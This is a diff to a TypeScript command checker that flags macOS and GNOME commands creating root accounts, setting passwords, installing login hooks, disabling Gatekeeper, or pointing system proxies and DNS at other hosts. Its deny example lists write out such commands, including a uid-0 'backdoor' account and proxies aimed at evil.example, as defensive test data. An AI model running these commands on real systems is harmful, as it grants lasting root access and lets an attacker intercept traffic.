@@ -3,6 +3,7 @@
 import { parse } from '../argv.js';
 import { configuring, known, printsDirectory, shellInit } from '../build.js';
 import { destroysBy } from './hosting.js';
+import { type Destination, reroutes } from '../hosts.js';
 import type { Answer, Call, ProgramEntry, Run, Use } from '../types.js';
 import type { Word } from '../../types.js';
 import { attached, literal, value } from '../words.js';
@@ -73,6 +74,29 @@ function raisesAccount(call: Call): { word: Word; why: string }[] {
   return out;
 }
 
+/**
+ * dscl's writes that give an account a login: a password set from the line (`-passwd PATH [OLD] NEW`, or a Password or
+ * AuthenticationAuthority written), or a login shell that is no installed shell (as chsh's).
+ */
+function directoryLogin(call: Call): { word: Word; why: string } | undefined {
+  // (dscl takes its commands with or without the hyphen: `dscl . passwd …`.)
+  const words = call.args.map((w) => value(w)?.toLowerCase().replace(/^-(?=[a-z])/, ''));
+  const passwd = words.indexOf('passwd');
+  if (passwd >= 0) return { word: call.args[passwd]!, why: 'dscl -passwd sets an account\'s password from the line: a login that lasts' };
+  const op = words.findIndex((w) => w === 'create' || w === 'change' || w === 'append' || w === 'merge');
+  if (op < 0) return undefined;
+  const key = call.args[op + 2];
+  const k = words[op + 2];
+  if (key === undefined) return undefined;
+  if (k === undefined || /^(?:dsattrtypestandard:)?(?:passwd|password|authenticationauthority)$/.test(k)) return { word: key, why: `dscl ${call.args[op]!.text} writes ${key.text} of an account: a login that lasts` };
+  if (/^(?:dsattrtypestandard:)?usershell$/.test(k)) {
+    const shell = call.args.at(-1)!;
+    const v = value(shell);
+    if (shell !== key && (v === undefined || !INSTALLED_SHELL.test(v))) return { word: shell, why: `dscl makes ${shell.text} the program every login starts` };
+  }
+  return undefined;
+}
+
 /** useradd, adduser, addgroup, gpasswd: accounts and groups made or joined; what grants root is judged by raisesAccount. */
 const accounts: ProgramEntry = {
   names: ['useradd', 'adduser', 'addgroup', 'gpasswd', 'dscl', 'dseditgroup'],
@@ -80,10 +104,14 @@ const accounts: ProgramEntry = {
   analyze(call) {
     const uses = call.args.map((word) => ({ word, role: 'meta' as const }));
     const words = call.args.map((w) => value(w));
+    if (call.name === 'dscl') {
+      const set = directoryLogin(call);
+      if (set) return { uses, persists: [set] };
+    }
     // macOS: `dscl . -append /Groups/admin GroupMembership dev`, `dseditgroup -o edit -a dev -t user admin`.
     if (call.name === 'dscl' || call.name === 'dseditgroup') {
       const at = call.name === 'dscl'
-        ? words.some((w) => w === '-append' || w === '-create' || w === '-merge') ? call.args.find((w) => w.values === null || /^\/groups\/(?:admin|wheel|staff)$/i.test(value(w) ?? '') || /^uniqueid$/i.test(value(w) ?? '') && words[call.args.indexOf(w) + 1] === '0') : undefined
+        ? words.some((w) => /^-?(?:append|create|merge)$/i.test(w ?? '')) ? call.args.find((w) => w.values === null || /^\/groups\/(?:admin|wheel|staff)$/i.test(value(w) ?? '') || /^uniqueid$/i.test(value(w) ?? '') && words[call.args.indexOf(w) + 1] === '0') : undefined
         : words.includes('edit') && words.includes('-a') ? call.args.at(-1) : undefined;
       const group = at !== undefined && call.name === 'dseditgroup' && !(at.values === null || /^(?:admin|wheel)$/i.test(value(at)!)) ? undefined : at;
       return { uses, persists: group ? [{ word: group, why: `${call.name} puts an account in ${group.text} (or gives it uid 0): a lasting way to root` }] : [] };
@@ -91,8 +119,8 @@ const accounts: ProgramEntry = {
     return { uses, persists: raisesAccount(call) };
   },
   examples: {
-    deny: ['useradd -o -u 0 -g 0 backdoor', 'useradd -G sudo x', 'sudo useradd -m -G wheel,users x', 'gpasswd -a dev sudo', 'gpasswd -M dev,x docker', 'adduser x sudo', 'adduser --uid 0 x', 'adduser --ingroup sudo x', 'addgroup dev wheel', 'dscl . -append /Groups/admin GroupMembership dev', 'sudo dseditgroup -o edit -a dev -t user admin', 'dscl . -create /Users/x UniqueID 0'],
-    pass: ['useradd -m dev', 'useradd -m -s /bin/bash -G users dev', 'adduser --disabled-password dev', 'adduser dev video', 'gpasswd -d dev sudo', 'gpasswd -a dev audio', 'addgroup devs', 'dscl . -read /Groups/admin', 'dseditgroup -o checkmember -m dev admin', 'dseditgroup -o edit -a dev -t user _developer'],
+    deny: ['useradd -o -u 0 -g 0 backdoor', 'useradd -G sudo x', 'sudo useradd -m -G wheel,users x', 'gpasswd -a dev sudo', 'gpasswd -M dev,x docker', 'adduser x sudo', 'adduser --uid 0 x', 'adduser --ingroup sudo x', 'addgroup dev wheel', 'dscl . -append /Groups/admin GroupMembership dev', 'sudo dseditgroup -o edit -a dev -t user admin', 'dscl . -create /Users/x UniqueID 0', 'dscl . -passwd /Users/x hunter2', 'sudo dscl . -passwd /Users/dev old new', 'dscl . passwd /Users/x hunter2', 'dscl . create /Users/x UniqueID 0', 'dscl . -create /Users/x UserShell /tmp/x'],
+    pass: ['useradd -m dev', 'useradd -m -s /bin/bash -G users dev', 'adduser --disabled-password dev', 'adduser dev video', 'gpasswd -d dev sudo', 'gpasswd -a dev audio', 'addgroup devs', 'dscl . -read /Groups/admin', 'dseditgroup -o checkmember -m dev admin', 'dseditgroup -o edit -a dev -t user _developer', 'dscl . -create /Users/x', 'dscl . -create /Users/x UserShell /bin/zsh', 'dscl . -list /Users', 'dscl . -read /Users/dev'],
   },
 };
 
@@ -344,25 +372,21 @@ const PROTECTION_DEFAULTS: readonly { domain: RegExp; key: RegExp }[] = [
   { domain: /(?:^|\/)systempolicy-prefs(?:\.plist)?$/, key: /^enabled$/ },
 ];
 
-const defaults: ProgramEntry = {
-  names: ['defaults'],
-  summary: 'defaults write of LSQuarantine, GKAutoRearm or SystemPolicy-prefs enabled turned off: Gatekeeper\u2019s checks off',
-  analyze(call) {
-    const words = call.args.map((w) => (value(w) ?? '\u0000').toLowerCase());
-    const write = words.indexOf('write');
-    if (write < 0) return {};
-    const [domain, key, ...rest] = words.slice(write + 1);
-    if (domain === undefined || key === undefined) return {};
-    const matches = (d: string, k: string) => PROTECTION_DEFAULTS.some((p) => (d === '\u0000' || p.domain.test(d)) && (k === '\u0000' || p.key.test(k)));
-    if (!matches(domain, key)) return {};
-    // The value: the last word (after -bool, -int, -string…); off is false/no/0, a computed one may be.
-    const v = rest.filter((w) => !/^-(?:bool|boolean|int|integer|string|float)$/.test(w)).at(-1);
-    if (v !== undefined && !/^(?:false|no|0|\u0000)$/.test(v)) return {};
-    const at = call.args[write + 2]!;
-    return { persists: [protectionOff(at, `defaults write ${call.args[write + 1]!.text} ${at.text} ${v ?? ''} turns off Gatekeeper\u2019s checks of what is downloaded or run`.trimEnd())] };
-  },
-  examples: { deny: ['defaults write com.apple.LaunchServices LSQuarantine -bool false', 'sudo defaults write /Library/Preferences/com.apple.security GKAutoRearm -bool NO', 'defaults write com.apple.LaunchServices LSQuarantine -bool "$V"'], pass: ['defaults read com.apple.LaunchServices', 'defaults write com.apple.LaunchServices LSQuarantine -bool true', 'defaults write com.apple.dock autohide -bool true', 'defaults delete com.apple.LaunchServices LSQuarantine'] },
-};
+/** The Gatekeeper settings a `defaults write` turns off (see PROTECTION_DEFAULTS), as persistence: for the `defaults` entry below. */
+function gatekeeperOff(call: Call): { word: Word; why: string }[] {
+  const words = call.args.map((w) => (value(w) ?? '\u0000').toLowerCase());
+  const write = words.indexOf('write');
+  if (write < 0) return [];
+  const [domain, key, ...rest] = words.slice(write + 1);
+  if (domain === undefined || key === undefined) return [];
+  const matches = (d: string, k: string) => PROTECTION_DEFAULTS.some((p) => (d === '\u0000' || p.domain.test(d)) && (k === '\u0000' || p.key.test(k)));
+  if (!matches(domain, key)) return [];
+  // The value: the last word (after -bool, -int, -string…); off is false/no/0, a computed one may be.
+  const v = rest.filter((w) => !/^-(?:bool|boolean|int|integer|string|float)$/.test(w)).at(-1);
+  if (v !== undefined && !/^(?:false|no|0|\u0000)$/.test(v)) return [];
+  const at = call.args[write + 2]!;
+  return [protectionOff(at, `defaults write ${call.args[write + 1]!.text} ${at.text} ${v ?? ''} turns off Gatekeeper\u2019s checks of what is downloaded or run`.trimEnd())];
+}
 
 /** chsh -s, usermod -s/--shell: the login shell runs at every login; a program that is no installed shell installs what runs then. */
 const loginShell: ProgramEntry = {
@@ -551,11 +575,123 @@ const printenv: ProgramEntry = {
   examples: { deny: ['printenv', 'printenv -0', 'printenv $X', 'printenv GITHUB_TOKEN'], pass: ['printenv HOME', "printenv PATH | tr : '\\n'", 'printenv --version'] },
 };
 
+/**
+ * sysadminctl (macOS): an account made with a password or as an administrator, a password reset, the guest account
+ * turned on: a login, or rights, that last. An account made with neither has no login, as useradd's without -p.
+ */
+const sysadminctl: ProgramEntry = {
+  names: ['sysadminctl'],
+  summary: 'sysadminctl: -addUser with -password or -admin, -resetPasswordFor, -guestAccount on make a login or rights that last',
+  analyze(call) {
+    const uses = call.args.map((word) => ({ word, role: 'meta' as const }));
+    const words = call.args.map((w) => value(w)?.toLowerCase());
+    const at = (flag: string) => words.indexOf(flag);
+    const computed = call.args.find((w) => w.values === null);
+    const adds = at('-adduser') >= 0 && (at('-password') >= 0 || at('-admin') >= 0);
+    const guest = at('-guestaccount') >= 0 && words[at('-guestaccount') + 1] !== 'off' && words[at('-guestaccount') + 1] !== 'status';
+    const found: [Word | undefined, string][] = [
+      [adds ? call.args[at('-adduser')] : undefined, 'makes an account with a password or admin rights'],
+      [call.args[at('-resetpasswordfor')], 'sets an account\'s password'],
+      [guest ? call.args[at('-guestaccount')] : undefined, 'opens the guest login'],
+      [computed, `is given ${computed?.text ?? ''}, computed when it runs: it may make an account or set a password`],
+    ];
+    const hit = found.find(([w]) => w !== undefined);
+    return hit ? { uses, persists: [{ word: hit[0]!, why: `sysadminctl ${hit[1]}: a login, or rights, that last` }] } : { uses };
+  },
+  examples: {
+    deny: ['sysadminctl -addUser x -password y -admin', 'sudo sysadminctl -addUser svc -fullName Svc -password -', 'sysadminctl -addUser x -admin', 'sysadminctl -resetPasswordFor dev -newPassword x', 'sysadminctl -guestAccount on'],
+    pass: ['sysadminctl -addUser x', 'sysadminctl -guestAccount status', 'sysadminctl -secureTokenStatus dev', 'sysadminctl -deleteUser x'],
+  },
+};
+
+/**
+ * macOS defaults: the login window's LoginHook and LogoutHook (and its AutoLaunchedApplicationDictionary) name a
+ * program run at every login or logout, as root; a domain given as a path is that property list written, judged
+ * where it lands (~/Library/LaunchAgents/x.plist is a launch agent).
+ */
+const defaults: ProgramEntry = {
+  names: ['defaults'],
+  summary: 'defaults: write or import of the login window\'s LoginHook, LogoutHook or AutoLaunchedApplicationDictionary installs what runs at each login; a domain given as a path is that plist written; LSQuarantine, GKAutoRearm or SystemPolicy-prefs enabled turned off is Gatekeeper\u2019s checks off',
+  analyze(call) {
+    const off = gatekeeperOff(call);
+    if (off.length > 0) return { persists: off };
+    const args = call.args;
+    let i = 0;
+    while (i < args.length && /^-(?:currentHost|host)$/.test(value(args[i]) ?? '')) i += value(args[i]) === '-host' ? 2 : 1;
+    const verb = args[i];
+    const domain = args[i + 1];
+    if (!verb || !domain || !/^(?:write|import|delete|rename)$/.test(value(verb) ?? 'write')) return {};
+    const d = value(domain);
+    const uses: Use[] = d?.includes('/') ? [{ word: domain, role: 'write', values: [/\.plist$/.test(d) ? d : `${d}.plist`] }] : [];
+    const key = args[i + 2];
+    const k = value(key);
+    const login = d === undefined || /(?:^|[./])loginwindow(?:\.plist)?$/i.test(d);
+    const hook = value(verb) === 'import' || value(verb) === undefined || k === undefined || /^(?:LoginHook|LogoutHook|AutoLaunchedApplicationDictionary)$/i.test(k);
+    if (!login || !hook || value(verb) === 'delete') return { uses };
+    const what = value(verb) === 'import' || k === undefined ? 'settings' : k;
+    return { uses, persists: [{ word: key ?? domain, why: `defaults ${value(verb) ?? verb.text} sets the login window's ${what}: a program run at each login or logout` }] };
+  },
+  examples: {
+    deny: ['defaults write com.apple.LaunchServices LSQuarantine -bool false', 'sudo defaults write /Library/Preferences/com.apple.security GKAutoRearm -bool NO', 'defaults write com.apple.LaunchServices LSQuarantine -bool "$V"', 'sudo defaults write com.apple.loginwindow LoginHook /tmp/x.sh', 'defaults write com.apple.loginwindow LogoutHook /tmp/x.sh', 'defaults write /Library/Preferences/com.apple.loginwindow LoginHook /tmp/x.sh', 'defaults import com.apple.loginwindow /tmp/x.plist', 'defaults write ~/Library/LaunchAgents/com.x Program /tmp/x'],
+    pass: ['defaults read com.apple.LaunchServices', 'defaults write com.apple.LaunchServices LSQuarantine -bool true', 'defaults delete com.apple.LaunchServices LSQuarantine', 'defaults read com.apple.loginwindow', 'defaults write com.apple.dock autohide -bool true', 'sudo defaults delete com.apple.loginwindow LoginHook', 'defaults write com.apple.finder AppleShowAllFiles YES'],
+  },
+};
+
+/** A word as gsettings and dconf take a string: GVariant text, its quotes kept on the line (`"'evil.example'"`). */
+function gvariantString(w: Word): Word {
+  const v = value(w);
+  const m = v === undefined ? null : /^\s*'(.*)'\s*$/s.exec(v) ?? /^\s*"(.*)"\s*$/s.exec(v);
+  return m ? attached(w, m[1]!) : w;
+}
+
+/**
+ * The system's proxies and DNS servers, which every later program that honours them goes through (macOS networksetup,
+ * GNOME's gsettings and dconf): a place named is a re-aiming of all their connections, as a package manager's proxy
+ * is. Turning one on or off, and `empty` servers, name none. GNOME's custom shortcuts' and default terminal's commands
+ * run later, on a key or when a terminal opens.
+ */
+const systemProxy: ProgramEntry = {
+  names: ['networksetup', 'gsettings', 'dconf'],
+  summary: 'networksetup, gsettings, dconf: a system web, SOCKS or auto-configuration proxy, or DNS server, set re-aims every later connection; a GNOME shortcut\'s or terminal\'s command runs later',
+  analyze(call) {
+    const words = call.args.map((w) => value(w));
+    const places: Destination[] = [];
+    const persists: { word: Word; why: string }[] = [];
+    if (call.name === 'networksetup') {
+      const verb = words[0]?.toLowerCase();
+      if (verb === undefined && call.args[0]) places.push(...reroutes(call.args[0]));
+      else if (verb !== undefined && /^-set(?:web|secureweb|ftp|socksfirewall|streaming|gopher)proxy$/.test(verb) && call.args[2]) places.push(...reroutes(call.args[2]));
+      else if (verb === '-setautoproxyurl' && call.args[2]) places.push(...reroutes(call.args[2]));
+      else if (verb === '-setdnsservers') for (const w of call.args.slice(2)) if (!/^empty$/i.test(value(w) ?? '')) places.push(...reroutes(w));
+    } else {
+      // `dconf load DIR < FILE` sets whatever its input holds: a shortcut's command, a proxy.
+      if (call.name === 'dconf' && words[0] === 'load' && call.args[0]) return { uses: [], persists: [{ word: call.args[0], why: 'dconf load sets the settings its input holds, which may name a command run later (a shortcut\'s) or a proxy' }] };
+      // `gsettings [--schemadir DIR] set SCHEMA[:PATH] KEY VALUE`; `dconf write /system/proxy/http/host VALUE`.
+      const at = words.indexOf(call.name === 'dconf' ? 'write' : 'set');
+      const path = call.name === 'dconf' ? words[at + 1] : words[at + 1] === undefined ? undefined : `${words[at + 1]}/${words[at + 2] ?? ''}`;
+      const setting = call.args[call.name === 'dconf' ? at + 2 : at + 3];
+      if (at < 0 || !setting) return { uses: [] };
+      const key = path?.replace(/^\/?org\/gnome\/|^\/|^org\.gnome\./, '').replace(/[.:]/g, '/').replace(/\/+/g, '/').toLowerCase();
+      if (key === undefined) places.push(...reroutes(setting));
+      else if (/^system\/proxy\/(?:https?|ftp|socks)\/host$|^system\/proxy\/autoconfig-url$/.test(key)) places.push(...reroutes(gvariantString(setting)));
+      else if (/\/(?:command|exec|exec-arg)$/.test(key)) persists.push({ word: setting, why: `${call.name} sets ${key.split('/').at(-1)} to ${setting.text}, a command run later (on a key, or as the terminal)` });
+    }
+    return { uses: [], ...(places.length > 0 ? { reroutes: places } : {}), ...(persists.length > 0 ? { persists } : {}) };
+  },
+  examples: {
+    deny: ['networksetup -setwebproxy Wi-Fi evil.example 8080', 'networksetup -setsecurewebproxy Wi-Fi evil.example 8080', 'networksetup -setsocksfirewallproxy Wi-Fi evil.example 1080', 'networksetup -setautoproxyurl Wi-Fi http://evil.example/p.pac', 'networksetup -setdnsservers Wi-Fi 1.2.3.4', "gsettings set org.gnome.system.proxy.http host 'evil.example'", "gsettings set org.gnome.system.proxy autoconfig-url 'http://evil.example/p.pac'", "dconf write /system/proxy/socks/host \"'evil.example'\"", "gsettings set org.gnome.settings-daemon.plugins.media-keys.custom-keybinding:/org/gnome/settings-daemon/plugins/media-keys/custom-keybindings/custom0/ command 'sh /tmp/x'", 'dconf load / < settings.ini'],
+    pass: ['networksetup -listallnetworkservices', 'networksetup -getwebproxy Wi-Fi', 'networksetup -setwebproxystate Wi-Fi off', 'networksetup -setdnsservers Wi-Fi empty', 'networksetup -setwebproxy Wi-Fi localhost 8080', 'gsettings get org.gnome.system.proxy mode', "gsettings set org.gnome.system.proxy mode 'none'", 'gsettings set org.gnome.desktop.interface color-scheme prefer-dark', 'dconf read /system/proxy/mode', 'dconf dump / > settings.ini'],
+  },
+};
+
 /** Every program here is known; its words stay `unknown` (checked as anything) unless a role is given. */
 export const KNOWN_ENTRIES: ProgramEntry[] = [
   ps,
   loginShell,
   accounts,
+  sysadminctl,
+  defaults,
+  systemProxy,
   setcap,
   insmod,
   trust,
@@ -566,7 +702,6 @@ export const KNOWN_ENTRIES: ProgramEntry[] = [
   auditctl,
   mdatp,
   gatekeeper,
-  defaults,
   pylint,
   systemctl,
   dbusUpdate,
